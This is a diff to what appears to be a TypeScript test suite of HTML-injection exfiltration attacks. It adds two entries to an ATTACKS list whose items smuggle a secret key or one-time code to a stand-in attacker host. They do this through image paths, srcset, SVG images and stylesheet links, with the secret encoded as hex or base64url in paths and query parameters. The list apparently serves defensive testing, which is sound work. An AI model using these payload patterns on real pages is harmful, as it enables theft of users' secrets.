@@ -75,6 +75,8 @@ export const ATTACKS: Attack[] = [
   { name: 'img, secret in base64url', run: (c) => img(c, `/${c.id}/${b64url(`k=${c.secret.key}`)}.png`) },
   { name: 'img, secret in hex', run: (c) => img(c, `/${c.id}/${hex(c.secret.key)}.png`) },
   { name: 'img, one-time code in the path', run: (c) => img(c, `/${c.id}/c${c.secret.code}.png`) },
+  { name: 'img, secret in hex as many image-size parameters', run: (c) => img(c, `/${c.id}/p.png?${hex(c.secret.key).match(/.{1,8}/g)!.map((x) => `w=${x}`).join('&')}`) },
+  { name: 'stylesheet, secret in hex as a long font family', run: (c) => insert(c, `<link rel="stylesheet" href="${c.attacker}/${c.id}/s.css?family=${hex(c.secret.key).match(/.{1,8}/g)!.join(',')}">`) },
   { name: 'img srcset', run: (c) => insert(c, `<img srcset="${c.attacker}/${c.id}/${c.secret.key}.png 2x">`) },
   { name: 'input type=image', run: (c) => insert(c, `<input type="image" src="${c.attacker}/${c.id}/${c.secret.key}.png">`) },
   { name: 'SVG image', run: (c) => insert(c, `<svg><image href="${c.attacker}/${c.id}/${c.secret.key}.png" width="1" height="1"/></svg>`) },
